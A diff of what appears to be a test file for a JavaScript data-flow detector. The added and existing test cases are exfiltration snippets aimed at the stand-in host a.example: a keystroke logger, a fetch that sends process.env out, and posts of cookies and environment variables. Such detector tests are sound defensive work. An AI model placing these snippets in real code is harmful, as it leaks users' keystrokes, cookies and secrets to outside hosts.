@@ -80,6 +80,8 @@ const https = require('https'), cp = require('child_process'), dns = require('dn
         ("const r = https.request({host: 'a.example'}); r.write(os.hostname()); r.end()", "host-info>network"),
         ("const x = new XMLHttpRequest(); x.open('POST', u); x.send(document.cookie)", "cookies>network"),
         ("const c = require('axios').create({}); c.post(u, process.env)", "environment>network"),
+        ("onkeypress = (e) => { new Image().src = 'https://a.example/?' + e.key }", "form-input>network"),
+        ("fetch('https://a.example/?' + JSON.stringify(process.env))", "environment>network"),
     ],
 )
 def test_every_source_and_sink(code: str, flow: str) -> None:
@@ -135,6 +137,7 @@ def test_what_is_written_comes_out_where_it_is_read() -> None:
         "fetch('https://docs.example/.npmrc')",
         "setTimeout(() => eval2(atob(text)), 10)",
         "eval('1 + 1')",
+        "const o = {env: process.env}; const open = (at) => http.get(at, {}); open(o[name])",
         "cp.spawn('node', ['a.js'], {env: process.env, stdio: 'inherit'})",
         "cp.exec('ls')",
         "require('./local'); require('fs')",
